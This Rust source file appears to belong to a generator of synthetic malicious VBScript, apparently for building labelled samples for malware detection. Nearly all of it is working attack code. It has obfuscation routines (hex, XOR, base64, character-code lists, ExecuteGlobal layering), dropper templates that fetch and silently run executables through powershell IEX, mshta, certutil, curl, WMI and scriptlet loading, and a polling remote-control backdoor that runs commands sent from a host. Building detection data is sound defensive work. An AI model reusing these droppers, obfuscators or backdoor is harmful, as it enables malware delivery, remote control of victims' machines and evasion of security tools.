//! VBScript: attachments of spam, worms of removable disks, loaders with much between their letters.

use super::super::{Dice, Truth, base64, codes, each, hex, keyed, put, quoted, reversed};
use super::{listed, only, stretched, table};

pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = only(dice);
    match dice.below(11) {
        0 => quoted(&dice.pieces(text), '"').join(" & "),
        1 => each(text, " & ", |byte| format!("Chr({byte})")),
        2 => format!("StrReverse(\"{}\")", reversed(text)),
        3 => {
            let mark = dice.pick(&["QQ", "ZX", "@", "#", "~"]);
            let littered = dice.littered(text, mark);
            format!("Replace(\"{littered}\", \"{mark}\", \"\")")
        }
        4 => {
            before.push_str(&format!("Function {name}(s)\n  Dim i, r\n  r = \"\"\n  For i = 1 To Len(s) Step 2\n    r = r & Chr(CLng(\"&H\" & Mid(s, i, 2)))\n  Next\n  {name} = r\nEnd Function\n"));
            format!("{name}(\"{}\")", hex(text.as_bytes()))
        }
        5 => {
            let key = 3 + dice.below(40) as u8;
            let list = codes(text.bytes().map(|byte| byte + key), ",");
            before.push_str(&format!("Function {name}(s)\n  Dim c, r\n  For Each c In Split(s, \",\")\n    r = r & Chr(CInt(c) - {key})\n  Next\n  {name} = r\nEnd Function\n"));
            format!("{name}(\"{list}\")")
        }
        6 => {
            before.push_str(&format!("Function {name}(b)\n  Dim d, e, s\n  Set d = CreateObject(\"MSXML2.DOMDocument\")\n  Set e = d.createElement(\"b64\")\n  e.dataType = \"bin.base64\"\n  e.text = b\n  Set s = CreateObject(\"ADODB.Stream\")\n  s.Type = 1\n  s.Open\n  s.Write e.nodeTypedValue\n  s.Position = 0\n  s.Type = 2\n  s.Charset = \"us-ascii\"\n  {name} = s.ReadText\n  s.Close\nEnd Function\n"));
            format!("{name}(\"{}\")", base64(text.as_bytes()))
        }
        7 => {
            let width = 2 + dice.below(4);
            let long = stretched(dice, text, width);
            before.push_str(&format!("Function {name}(s)\n  Dim i, r\n  For i = {0} To Len(s) Step {0}\n    r = r & Mid(s, i, 1)\n  Next\n  {name} = r\nEnd Function\n", width + 1));
            format!("{name}(\"{long}\")")
        }
        8 => {
            let (letters, places) = table(dice, text);
            before.push_str(&format!("{name} = \"{letters}\"\n"));
            let list: Vec<String> =
                places.iter().map(|at| format!("Mid({name}, {}, 1)", at + 1)).collect();
            list.join(" & ")
        }
        9 => {
            let key = dice.name();
            before.push_str(&format!("Function {name}(h, k)\n  Dim i, r\n  r = \"\"\n  For i = 0 To Len(h) / 2 - 1\n    r = r & Chr(CInt(\"&H\" & Mid(h, i * 2 + 1, 2)) Xor Asc(Mid(k, (i Mod Len(k)) + 1, 1)))\n  Next\n  {name} = r\nEnd Function\n"));
            format!("{name}(\"{}\", \"{key}\")", hex(&keyed(text, &key)))
        }
        _ => {
            let pieces = dice.pieces(text);
            format!("Join(Array({}), \"\")", quoted(&pieces, '"').join(", "))
        }
    }
}

fn layered(dice: &mut Dice, script: &str) -> String {
    let name = only(dice);
    match dice.below(10) {
        0 => {
            let mut out = format!("Dim {name}\n");
            for line in script.as_bytes().chunks(60) {
                let list: Vec<String> = line.iter().map(|byte| format!("Chr({byte})")).collect();
                out.push_str(&format!("{name} = {name} & {}\n", list.join("&")));
            }
            format!("{out}ExecuteGlobal {name}\n")
        }
        1 => {
            let key = 1 + dice.below(60);
            let mut out = format!("Dim {name}, t{name}, p{name}\n{name} = \"\"\n");
            let numbers: Vec<usize> = script.bytes().map(|byte| usize::from(byte) + key).collect();
            for (at, line) in numbers.chunks(80).enumerate() {
                let between = if at == 0 { "" } else { "*" };
                out.push_str(&format!(
                    "{name} = {name} & \"{between}{}\"\n",
                    listed(line.iter().copied(), "*")
                ));
            }
            format!(
                "{out}For Each p{name} In Split({name}, \"*\")\n  t{name} = t{name} & Chr(p{name} - {key})\nNext\nExecuteGlobal t{name}\n"
            )
        }
        _ => script.to_owned(),
    }
}

/// Lines that nothing needs.
fn junk(dice: &mut Dice) -> String {
    (0..dice.below(12))
        .map(|_| {
            let name = only(dice);
            match dice.below(3) {
                0 => format!("' {name} {}\n", only(dice)),
                1 => format!("{name} = {} + {}\n", dice.below(9999), dice.below(9999)),
                _ => format!("Dim {name}\n{name} = \"{}\"\n", only(dice)),
            }
        })
        .collect()
}

const SAVE: &str = r#"Dim http, stream, shell, path
Set shell = CreateObject("WScript.Shell")
path = shell.ExpandEnvironmentStrings("%TEMP%") & "\@F@.exe"
Set http = CreateObject("@X@")
http.Open "GET", @W@, False
http.Send
If http.Status = 200 Then
  Set stream = CreateObject("ADODB.Stream")
  stream.Type = 1
  stream.Open
  stream.Write http.responseBody
  stream.SaveToFile path, 2
  stream.Close
  shell.Run """" & path & """", 0, False
End If
"#;

const WORM: &str = r#"'<[ recoder : @F@ ]>
host = @W@
port = @PORT@
installdir = "%temp%"
spliter = "<" & "|" & ">"
Set shellobj = WScript.CreateObject("WScript.Shell")
Set filesystemobj = CreateObject("Scripting.FileSystemObject")
Dim httpobj
On Error Resume Next
While True
  response = ""
  response = post("is-ready", "")
  cmd = Split(response, spliter)
  Select Case cmd(0)
    Case "excecute"
      Execute cmd(1)
  End Select
  WScript.Sleep 5000
Wend

Function post(cmd, param)
  Set httpobj = CreateObject("MSXML2.XMLHTTP")
  httpobj.Open "POST", "http://" & host & ":" & port & "/" & cmd, False
  httpobj.setRequestHeader "user-agent:", "information"
  httpobj.Send param
  post = httpobj.responseText
End Function
"#;

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let file = dice.name();
    let body = match dice.below(11) {
        0 | 1 => {
            let object = dice.pick(&[
                "MSXML2.XMLHTTP",
                "Microsoft.XMLHTTP",
                "MSXML2.ServerXMLHTTP.6.0",
                "WinHttp.WinHttpRequest.5.1",
            ]);
            let url = truth.url(dice, &[".exe", ".php", ""]);
            let word = hide(dice, &url, &mut before);
            format!("{before}{}", put(SAVE, &[("F", &file), ("X", object), ("W", &word)]))
        }
        2 => {
            let url = truth.url(dice, &[".ps1", ".txt", ""]);
            let word = hide(dice, &url, &mut before);
            let name = only(dice);
            format!(
                "{before}{name} = {word}\nSet sh = CreateObject(\"WScript.Shell\")\nsh.Run \"powershell -NoP -W Hidden -ExecutionPolicy Bypass -Command \"\"IEX (New-Object Net.WebClient).DownloadString('\" & {name} & \"')\"\"\", 0, False\n"
            )
        }
        3 => {
            let (host, port) = (dice.host(), dice.port());
            truth.urls.insert(format!("http://{host}:{port}/is-ready"));
            let word = hide(dice, &host, &mut before);
            let port = port.to_string();
            format!("{before}{}", put(WORM, &[("F", &file), ("W", &word), ("PORT", &port)]))
        }
        4 => {
            let url = truth.url(dice, &[".sct", ".txt"]);
            let word = hide(dice, &format!("script:{url}"), &mut before);
            format!("{before}GetObject({word})\n")
        }
        5 => {
            let url = truth.url(dice, &[".hta", ""]);
            let word = hide(dice, &url, &mut before);
            format!("{before}CreateObject(\"WScript.Shell\").Run \"mshta \" & {word}, 0\n")
        }
        6 => {
            let url = truth.url(dice, &["", ".txt", ".vbs"]);
            let word = hide(dice, &url, &mut before);
            format!(
                "On Error Resume Next\n{before}Set x = CreateObject(\"MSXML2.ServerXMLHTTP\")\nx.Open \"GET\", {word}, False\nx.setRequestHeader \"User-Agent\", \"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)\"\nx.Send\nExecuteGlobal x.responseText\n"
            )
        }
        7 => {
            let url = truth.url(dice, &["", ".exe"]);
            let word = hide(dice, &url, &mut before);
            format!(
                "{before}u = {word}\nSet wmi = GetObject(\"winmgmts:{{impersonationLevel=impersonate}}!\\\\.\\root\\cimv2:Win32_Process\")\nwmi.Create \"powershell -w hidden -c (New-Object Net.WebClient).DownloadFile('\" & u & \"','C:\\Users\\Public\\{file}.exe');Start-Process C:\\Users\\Public\\{file}.exe\", Null, Null, pid\n"
            )
        }
        8 => {
            let url = truth.url(dice, &[".exe", ".dll"]);
            let word = hide(dice, &url, &mut before);
            let program =
                if dice.chance(50) { "curl -s -o" } else { "certutil -urlcache -split -f" };
            if program.starts_with("curl") {
                format!(
                    "{before}Set o = CreateObject(\"Shell.Application\")\no.ShellExecute \"cmd.exe\", \"/c {program} C:\\ProgramData\\{file}.exe \" & {word}, \"\", \"open\", 0\n"
                )
            } else {
                format!(
                    "{before}Set o = CreateObject(\"Shell.Application\")\no.ShellExecute \"cmd.exe\", \"/c {program} \" & {word} & \" C:\\ProgramData\\{file}.exe\", \"\", \"open\", 0\n"
                )
            }
        }
        9 => {
            let urls: Vec<String> =
                (0..2 + dice.below(2)).map(|_| truth.url(dice, &[".exe", ""])).collect();
            let words: Vec<String> = urls.iter().map(|url| hide(dice, url, &mut before)).collect();
            format!(
                "On Error Resume Next\n{before}list = Array({})\nFor Each u In list\n  Set h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\n  h.Open \"GET\", u, False\n  h.Send\n  Set s = CreateObject(\"ADODB.Stream\")\n  s.Type = 1\n  s.Open\n  s.Write h.ResponseBody\n  s.SaveToFile \"C:\\Users\\Public\\{file}.exe\", 2\n  s.Close\n  CreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\{file}.exe\", 0, False\nNext\n",
                words.join(", ")
            )
        }
        _ => {
            let url = truth.url(dice, &[".msi", ""]);
            let word = hide(dice, &url, &mut before);
            format!(
                "{before}Set i = CreateObject(\"WindowsInstaller.Installer\")\ni.UILevel = 2\ni.InstallProduct {word}\n"
            )
        }
    };
    let script = format!("{}{body}", junk(dice));
    layered(dice, &script).replace('\n', "\r\n")
}
